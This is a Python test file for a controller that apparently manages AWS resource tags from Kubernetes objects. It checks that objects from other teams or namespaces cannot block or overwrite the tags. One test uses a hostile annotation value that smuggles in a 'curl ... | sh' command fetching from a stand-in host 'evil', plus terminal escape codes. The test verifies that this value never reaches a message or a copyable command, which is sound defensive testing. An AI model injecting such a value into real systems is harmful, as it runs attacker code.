"""Objects of somebody else that meet ours: none of them stops what an older one asks for, or speaks in its place."""

from __future__ import annotations

import pytest

from freehold.api import names
from freehold.controllers.keyring.needs import build_first_ring
from freehold.kube.resources import Key
from freehold.tags.key_needs import tag_needs
from harness.metadata import CLASSIFIER, NAMESPACE, PLACE, WANTED, Lab


@pytest.fixture
def lab() -> Lab:
    return Lab()


@pytest.mark.parametrize("age", ["older", "younger"])
async def test_a22_a_condition_by_which_nothing_is_found_protects_nothing(lab: Lab, age: str) -> None:
    """Whoever may make an object could otherwise keep the tags of another team from being written."""
    (arn,) = lab.groups(1)
    await lab.tags("decoy", {"x": "y"})
    decoy = {CLASSIFIER: "owned", "env": "no such value"}
    if age == "older":
        await lab.cloud("decoy", "decoy", classifiers=decoy)
    await lab.apply_examples()
    if age == "younger":
        await lab.cloud("decoy", "decoy", classifiers=decoy)
    await lab.settle("metadata", "decoy")
    assert lab.tags_on(arn) == {CLASSIFIER: "owned", "x": "y", **WANTED}
    assert lab.condition("Ready")[0] == "True"


async def test_a18_a_classifier_of_a_younger_object_does_not_stop_an_older_one(lab: Lab) -> None:
    """It is found by what the older one wrote, and loses the resource when that changes."""
    (arn,) = lab.groups(1)
    await lab.apply_examples()
    await lab.settle()
    await lab.tags("younger", {"x": "y"})
    await lab.cloud("younger", "younger", classifiers={"env": "test"})
    await lab.edit("AWSMetadata", "awstags", {"resourcetags": {"env": "prod"}})
    lab.wait()
    await lab.settle("metadata", "younger")
    assert lab.tags_on(arn) == {CLASSIFIER: "owned", "env": "prod", "centre": "eng"}
    assert lab.condition("Ready")[0] == "True"


async def test_a22_a_classifier_of_an_older_object_is_left_and_said(lab: Lab) -> None:
    (arn,) = lab.groups(1, env="prod")
    await lab.tags("old", {"x": "y"})
    await lab.cloud("old", "old", classifiers={"env": "prod"})
    await lab.tags("new", WANTED)
    await lab.cloud("metadata", "new")
    await lab.settle("old", "metadata")
    assert lab.tags_on(arn) == {CLASSIFIER: "owned", "x": "y", "env": "prod", "centre": "eng"}
    assert lab.condition("Ready")[:2] == ("False", "Classifier")
    assert f"CloudMetadata {NAMESPACE}/old" in lab.condition("Policy")[2]


async def test_a22_what_was_written_and_is_a_classifier_by_now_stays_and_is_no_failure(lab: Lab) -> None:
    (arn,) = lab.groups(1)
    await lab.apply_examples()
    await lab.settle()
    await lab.edit("AWSMetadata", "awstags", {"resourcetags": {"env": None}})
    await lab.edit("CloudMetadata", "metadata", {"classifiers": {"env": "test"}})
    lab.wait()
    await lab.settle()
    assert lab.tags_on(arn) == {CLASSIFIER: "owned", **WANTED}
    assert lab.condition("Ready")[0] == "True"
    assert lab.condition("Policy")[:2] == ("True", "ClassifierKept")


async def test_a24_a_classifier_of_a_younger_object_does_not_stop_a_removal(lab: Lab) -> None:
    (arn,) = lab.groups(1)
    await lab.tags("plat", WANTED, deletionPolicy="Remove")
    await lab.cloud("metadata", "plat")
    await lab.settle()
    await lab.tags("decoy", {"x": "y"})
    await lab.cloud("decoy", "decoy", classifiers={CLASSIFIER: "owned", "env": "no such value"})
    await lab.remove("plat")
    assert lab.tags_on(arn) == {CLASSIFIER: "owned"}
    assert ("AWSMetadata", Key(NAMESPACE, "plat")) not in lab.objects.objects


async def test_a2_a_stranger_without_a_grant_does_not_speak_for_our_tags(lab: Lab) -> None:
    """Its object is older, refers to our AWSMetadata from another namespace, and is refused."""
    ref = {"cloudprovider": {"awsref": {"name": "awstags", "namespace": NAMESPACE}}, "classifiers": {"a": "b"}}
    stranger = {"kind": "CloudMetadata", "metadata": {"name": "evil", "namespace": "evil"}, "spec": ref}
    await lab.apply(stranger)
    lab.groups(1)
    await lab.apply_examples()
    await lab.settle()
    await lab.process.reconcile(Key("evil", "evil"))
    told = lab.status("AWSMetadata", "awstags")
    assert (told["status"], told["resourcetags"]) == ("True", WANTED)
    lab.wait()
    await lab.settle()
    assert lab.status("AWSMetadata", "awstags") == told
    assert lab.objects.objects["CloudMetadata", Key("evil", "evil")]["status"]["reason"] == "ReferenceNotGranted"


REFUSED = {"classifiers": {"env": "x"}}
"""A classifier among the tags."""


async def test_where_all_are_refused_the_oldest_one_speaks(lab: Lab) -> None:
    await lab.tags("tags", WANTED)
    await lab.cloud("old", "tags", **REFUSED)
    await lab.cloud("metadata", "tags", controllerconfig={"syncevery": "nonsense"})
    await lab.work("metadata")
    assert lab.status("AWSMetadata", "tags") == {}
    await lab.work("old")
    assert lab.condition("Applied", "AWSMetadata", "tags")[1] == "InvalidTags"


async def test_an_older_object_that_is_in_deletion_does_not_keep_the_others_from_speaking(lab: Lab) -> None:
    """It is not worked on any more, and may stay for long."""
    lab.groups(1)
    await lab.tags("tags", WANTED)
    await lab.cloud("old", "tags")
    await lab.cloud("metadata", "tags")
    lab.object("CloudMetadata", "old")["metadata"]["deletionTimestamp"] = "2026-11-23T00:00:00Z"
    await lab.settle()
    assert lab.status("AWSMetadata", "tags")["resourcetags"] == WANTED


EVIL = "u $(curl${IFS}evil|sh)\n\x1b[2J s"


async def test_a12_an_annotation_that_is_not_ours_does_not_mark_the_record_as_lost(lab: Lab) -> None:
    """Nor does it name a key: its text would stand in a message, and in a command to copy."""
    lab.groups(1)
    annotated = {"name": "evil", "namespace": "evil", "annotations": {names.TAGS_WRITER_ANNOTATION: EVIL}}
    await lab.apply({"kind": "AWSMetadata", "metadata": annotated, "spec": {"resourcetags": {"a": "b"}}})
    await lab.apply_examples()
    await lab.settle()
    assert lab.condition("Policy")[:2] == ("True", "AsAsked")
    await lab.lose_record()
    lab.object("AWSMetadata", "awstags")["metadata"]["annotations"].clear()
    build_first_ring("the test", await tag_needs(lab.objects, PLACE), 0.0)


async def test_a18_an_older_object_that_leaves_what_both_want_is_named(lab: Lab) -> None:
    """The younger one does not write what is the older one's; it must not say either that it is applied."""
    (arn,) = lab.groups(1)
    lab.somebody_sets(arn, env="theirs")
    lab.wait()
    await lab.tags("old", {"env": "test"}, opcode="add")
    await lab.cloud("old", "old")
    await lab.tags("new", {"env": "test"})
    await lab.cloud("metadata", "new")
    await lab.settle("old", "metadata")
    assert lab.tags_on(arn)["env"] == "theirs"
    assert lab.condition("Ready")[:2] == ("False", "Conflict")
    assert f"AWSMetadata {NAMESPACE}/old is older and asks for the same of the tag 'env'" in lab.condition("Policy")[2]


async def test_a18_what_an_older_object_has_not_written_yet_is_awaited(lab: Lab) -> None:
    (arn,) = lab.groups(1)
    await lab.tags("old", {"env": "test"})
    await lab.cloud("old", "old")
    await lab.tags("new", {"env": "test"})
    await lab.cloud("metadata", "new")
    await lab.work()
    assert "env" not in lab.tags_on(arn)
    assert lab.condition("Ready")[:2] == ("False", "Retrying")
    assert "has not done it yet" in lab.condition("Policy")[2]
    await lab.settle("old", "metadata")
    assert lab.tags_on(arn)["env"] == "test"
    assert lab.condition("Ready")[:2] == ("True", "Applied")
